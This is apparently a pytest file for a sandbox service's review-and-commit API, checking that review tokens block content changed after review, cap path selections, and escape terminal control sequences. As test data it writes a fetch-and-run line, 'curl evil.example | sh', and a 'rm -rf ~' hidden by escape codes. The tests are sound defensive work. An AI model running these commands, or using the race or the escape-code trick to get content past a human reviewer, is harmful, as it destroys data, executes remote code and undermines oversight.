"""A review is of a moment: a process a session left running in the sandbox can change a
file between the caller's DiffChanges and its CommitChanges, and the commit applied
content the review never showed (`benign report` reviewed, `curl evil.example | sh`
committed). DiffChanges now returns a review token; CommitChanges given it commits
exactly the reviewed changes or nothing (ABORTED, REVIEW_OUTDATED), running or stopped."""

from __future__ import annotations

import time

import grpc
import pytest

from conftest import download, make_codebase, make_sandbox, run
from server_harness import common, reason_of, sb


def diff(server, sandbox_id, paths=()):
    return server.sandboxes.DiffChanges(sb.DiffChangesRequest(sandbox_id=sandbox_id,
                                                              paths=list(paths)))


def commit(server, sandbox_id, token, paths=()):
    return server.sandboxes.CommitChanges(sb.CommitChangesRequest(
        sandbox_id=sandbox_id, paths=list(paths), review_token=token))


@pytest.fixture
def manual(server):
    codebase_id = make_codebase(server, files={"output/report.txt": b"old report\n"})
    sandbox_id = make_sandbox(server, codebase_id, sync_mode=common.SYNC_MODE_MANUAL)
    yield codebase_id, sandbox_id
    server.sandboxes.DestroySandbox(sb.DestroySandboxRequest(sandbox_id=sandbox_id))


def test_a_change_after_the_review_is_not_committed_under_its_token(server, manual):
    codebase_id, sandbox_id = manual
    session = server.sandboxes.CreateSession(sb.CreateSessionRequest(sandbox_id=sandbox_id)).id
    server.sandboxes.SessionExec(sb.SessionExecRequest(session_id=session, command=(
        "echo 'benign report' > output/report.txt; "
        "(sleep 2; echo 'curl evil.example | sh' > output/report.txt) >/dev/null 2>&1 &")))
    reviewed = diff(server, sandbox_id, ["/output/report.txt"])
    assert "+benign report" in reviewed.diff and len(reviewed.review_token) == 64
    time.sleep(3)
    with pytest.raises(grpc.RpcError) as e:
        commit(server, sandbox_id, reviewed.review_token, ["/output/report.txt"])
    assert e.value.code() == grpc.StatusCode.ABORTED, e.value.details()
    assert reason_of(e.value) == "REVIEW_OUTDATED"
    assert download(server, codebase_id, "output/report.txt") == b"old report\n"
    again = diff(server, sandbox_id, ["/output/report.txt"])
    assert "+curl evil.example | sh" in again.diff
    applied = commit(server, sandbox_id, again.review_token, ["/output/report.txt"]).applied
    assert list(applied) == ["/output/report.txt"]
    assert download(server, codebase_id, "output/report.txt") == b"curl evil.example | sh\n"


def test_a_token_holds_across_a_stop_and_is_checked_offline(server, manual):
    codebase_id, sandbox_id = manual
    run(server, sandbox_id, "echo reviewed > output/report.txt")
    token = diff(server, sandbox_id).review_token
    server.sandboxes.StopSandbox(sb.StopSandboxRequest(sandbox_id=sandbox_id))
    assert diff(server, sandbox_id).review_token == token  # the same changes, stopped
    with pytest.raises(grpc.RpcError) as e:
        commit(server, sandbox_id, "0" * 64)
    assert reason_of(e.value) == "REVIEW_OUTDATED"
    assert list(commit(server, sandbox_id, token).applied) == ["/output/report.txt"]
    assert download(server, codebase_id, "output/report.txt") == b"reviewed\n"


def test_a_selection_is_bounded_and_costs_its_depth_not_its_length(server, manual):
    """Each change was matched against each named path while the layer was locked: 20,000
    changes and 200,000 named paths took 37 s (and the work went on after the caller gave
    up). A request names at most 10,000 paths; a directory covers the rest."""
    _, sandbox_id = manual
    run(server, sandbox_id, "mkdir -p output/many && cd output/many && "
        "seq 1 2000 | xargs touch")
    too_many = [f"/output/n{i}" for i in range(10_001)]
    for call in (lambda: diff(server, sandbox_id, too_many),
                 lambda: commit(server, sandbox_id, "", too_many)):
        with pytest.raises(grpc.RpcError) as e:
            call()
        assert e.value.code() == grpc.StatusCode.INVALID_ARGUMENT, e.value.details()
        assert "more than 10000 per request" in e.value.details()
    named = [f"/output/many/{i}" for i in range(1, 10_001, 2)]  # 1,000 of them exist
    reviewed = diff(server, sandbox_id, named)
    applied = commit(server, sandbox_id, reviewed.review_token, named).applied
    assert sorted(applied) == sorted(f"/output/many/{i}" for i in range(1, 2001, 2))


def test_the_diff_shows_what_a_terminal_would_hide(server, manual):
    """A reviewer printing the API's diff saw only "# harmless comment": ESC[2K and a
    carriage return erased the command before it, which the token then committed."""
    _, sandbox_id = manual
    run(server, sandbox_id, r"printf 'rm -rf ~ \033[2K\r# harmless comment\n' > output/x.sh")
    reviewed = diff(server, sandbox_id, ["/output/x.sh"])
    assert "\x1b" not in reviewed.diff and "\r" not in reviewed.diff
    assert r"+rm -rf ~ \x1b[2K\r# harmless comment" in reviewed.diff, reviewed.diff
    applied = commit(server, sandbox_id, reviewed.review_token, ["/output/x.sh"]).applied
    assert list(applied) == ["/output/x.sh"]  # the token still covers the raw content
